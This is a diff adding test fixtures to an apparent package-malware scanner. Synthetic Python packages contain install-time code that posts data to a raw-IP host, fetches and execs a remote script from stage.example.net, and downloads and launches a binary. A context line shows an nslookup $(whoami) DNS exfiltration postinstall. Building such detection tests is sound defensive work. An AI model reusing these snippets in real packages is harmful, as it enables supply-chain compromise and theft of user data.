@@ -414,6 +414,63 @@ main()
     verdict: 'hold',
   },
   {
+    rule: 'exfiltration-endpoint',
+    name: 'an f-string builds a raw-IP URL from module constants',
+    scan: () =>
+      sdist({
+        'synthetic_pkg/__init__.py': `import requests
+_SERVER = '203.0.113.49'
+_PORT = 20578
+_URL = f"http://{_SERVER}:{_PORT}/c"
+requests.post(_URL, data={'ok': 1})
+`,
+      }),
+    file: 'synthetic_pkg/__init__.py',
+    line: 4,
+    weight: 50,
+    verdict: 'hold',
+  },
+  {
+    rule: 'downloads-and-executes',
+    name: 'a NamedTemporaryFile gets code that execs a URL, then runs through its .name',
+    scan: () =>
+      sdist({
+        'setup.py': `from setuptools import setup
+from tempfile import NamedTemporaryFile as _f
+from sys import executable as _e
+from os import system as _s
+_t = _f(delete=False)
+_t.write(b"""from urllib.request import urlopen as _urlopen;exec(_urlopen('https://stage.example.net/x').read())""")
+_t.close()
+_s(f"{_e} {_t.name}")
+setup(name='synthetic-pkg', version='1.0.0')
+`,
+      }),
+    file: 'setup.py',
+    line: 6,
+    weight: 100,
+    verdict: 'hold',
+  },
+  {
+    rule: 'downloads-and-executes',
+    name: 'a download streamed to disk in chunks and started',
+    scan: () =>
+      sdist({
+        'synthetic_pkg/__init__.py': `import requests, subprocess
+_FILE = 'helper.bin'
+response = requests.get('https://files.example.com/h', stream=True)
+with open(_FILE, 'wb') as f:
+    for chunk in response.iter_content(chunk_size=8192):
+        f.write(chunk)
+subprocess.Popen([_FILE])
+`,
+      }),
+    file: 'synthetic_pkg/__init__.py',
+    line: 7,
+    weight: 90,
+    verdict: 'hold',
+  },
+  {
     rule: 'shell-exfiltration',
     name: 'postinstall runs nslookup $(whoami).probe.example.com',
     scan: () => npm({}, postinstall('nslookup $(whoami).probe.example.com')),
